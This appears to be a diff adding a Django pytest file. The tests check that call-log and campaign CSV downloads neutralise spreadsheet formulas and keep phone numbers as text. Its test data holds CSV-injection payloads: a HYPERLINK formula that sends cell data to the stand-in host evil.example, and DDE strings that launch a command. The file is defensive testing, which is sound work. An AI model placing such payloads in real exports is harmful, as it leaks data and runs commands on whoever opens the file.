@@ -1,0 +1,169 @@
+"""CSV downloads are safe to open in a spreadsheet: formulas neutralised (OWASP), phone numbers
+kept as text. The call export, a campaign's results and its rejected rows, through the real
+pages, on SQLite and on PostgreSQL."""
+
+import csv
+import io
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
+
+from calls.models import CallLog, Campaign
+from tests.helpers.portal import campaign_form, logged_in
+
+# What a spreadsheet would run, one per character OWASP lists, and what the file must hold.
+FORMULAS = [
+    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"Open")', id="equals"),
+    pytest.param("+1+cmd|' /C calc'!A0", id="plus"),
+    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
+    pytest.param("@SUM(1+9)*cmd|' /C calc'!A0", id="at"),
+    pytest.param("\t=1+1", id="tab"),
+    pytest.param("\r=1+1", id="carriage return"),
+]
+
+
+def download(client: Client, url: str, **query: str) -> list[list[str]]:
+    response = client.get(url, query)
+    assert response.status_code == 200 and response.streaming
+    assert response["Content-Type"].startswith("text/csv")
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def exported(client: Client, **query: str) -> list[dict[str, str]]:
+    header, *rows = download(client, "/calls/export.csv", **query)
+    assert header == CallLog.EXPORT_COLUMNS
+    return [dict(zip(header, row, strict=True)) for row in rows]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_from_the_provider_is_exported_as_inert_text(
+    agent_client, bridge, sound, formula
+):
+    CallLog.objects.create(
+        bridge=bridge, to="918867135123", audio=sound, status="failed", error=formula
+    )
+
+    (row,) = exported(agent_client)
+
+    assert row["error"] == "'" + formula
+
+
+def test_every_text_column_of_the_call_export_is_neutralised(
+    agent_client, bridge, sound, django_user_model
+):
+    placed_by = django_user_model.objects.create_user(username="+evil@example")
+    CallLog.objects.create(
+        bridge=bridge,
+        to="918867135123",
+        audio=sound,
+        status="failed",
+        provider_status="=1+1",
+        provider_id="@A1",
+        error="-1",
+        created_by=placed_by,
+    )
+
+    (row,) = exported(agent_client)
+
+    assert (row["provider_status"], row["provider_id"], row["error"], row["placed_by"]) == (
+        "'=1+1",
+        "'@A1",
+        "'-1",
+        "'+evil@example",
+    )
+
+
+def test_plain_values_are_exported_unchanged(agent_client, bridge, sound):
+    call = CallLog.objects.create(
+        bridge=bridge,
+        to="918867135123",
+        audio=sound,
+        status="busy",
+        error="Busy - try later",
+        duration=0,
+        attempts=2,
+    )
+
+    (row,) = exported(agent_client)
+
+    assert row["id"] == str(call.pk)
+    assert row["error"] == "Busy - try later"
+    assert (row["status"], row["duration"], row["attempts"]) == ("busy", "0", "2")
+
+
+def test_phone_numbers_are_written_so_a_spreadsheet_keeps_them_as_text(agent_client, bridge, sound):
+    CallLog.objects.create(bridge=bridge, to="918867135123", audio=sound)
+
+    (row,) = exported(agent_client)
+
+    # The text marker: not 9.18867E+11 in Excel or LibreOffice, and not a number at all.
+    assert row["to"] == "'918867135123"
+    assert row["bridge"] == "'918068287602"
+    with pytest.raises(ValueError):
+        float(row["to"])
+
+
+def test_a_campaigns_results_export_is_neutralised_and_keeps_numbers_as_text(
+    supervisor, bridge, sound
+):
+    campaign = Campaign.objects.create(name="November", bridge=bridge, audio=sound, pace=2)
+    CallLog.objects.create(
+        bridge=bridge, to="918867135124", audio=sound, campaign=campaign, error="@cmd"
+    )
+    CallLog.objects.create(bridge=bridge, to="918867135123", audio=sound, error="=elsewhere")
+
+    rows = exported(logged_in(supervisor), campaign=str(campaign.pk))
+
+    assert [(r["to"], r["error"], r["campaign_id"]) for r in rows] == [
+        ("'918867135124", "'@cmd", str(campaign.pk))
+    ]
+
+
+# --- the rejected rows of a campaign ---------------------------------------------------------
+
+
+def new_audio_campaign(client: Client, bridge, sound, content: bytes) -> Campaign:
+    response = client.post("/campaigns/new/", campaign_form(bridge, None, content, audio=sound.pk))
+    assert response.status_code == 302
+    return Campaign.objects.get()
+
+
+def test_the_rejected_rows_file_neutralises_formulas_in_values_and_headers(
+    supervisor, bridge, sound
+):
+    client = logged_in(supervisor)
+    content = (
+        b"number,Name,@city\n"
+        b'12345,"=HYPERLINK(""http://evil.example"",""Open"")",-Goa\n'
+        b"+91 98765,Asha,\tPune\n"
+        b"918867135123,Ravi,Delhi\n"
+    )
+    campaign = new_audio_campaign(client, bridge, sound, content)
+
+    rows = download(client, f"/campaigns/{campaign.pk}/rejected.csv")
+
+    assert rows[0] == ["number", "Name", "'@city", "reason"]
+    assert [row[:3] for row in rows[1:]] == [
+        ["12345", '\'=HYPERLINK("http://evil.example","Open")', "'-Goa"],
+        ["'+91 98765", "Asha", "Pune"],  # the upload trims the tab away
+    ]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+
+
+def test_a_neutralised_number_in_the_rejected_rows_uploads_again_once_fixed(
+    supervisor, bridge, sound
+):
+    client = logged_in(supervisor)
+    campaign = new_audio_campaign(client, bridge, sound, b"number,Name\n+91 98765,Asha\n")
+    rejected = b"".join(client.get(f"/campaigns/{campaign.pk}/rejected.csv").streaming_content)
+    assert b"'+91 98765," in rejected
+    fixed = rejected.replace(b"'+91 98765,", b"'+91 98765 43210,")
+
+    response = client.post(
+        f"/campaigns/{campaign.pk}/upload/",
+        {"csv_file": SimpleUploadedFile("fixed.csv", fixed, content_type="text/csv")},
+    )
+
+    assert response.status_code == 302
+    assert list(campaign.calls.values_list("to", flat=True)) == ["919876543210"]
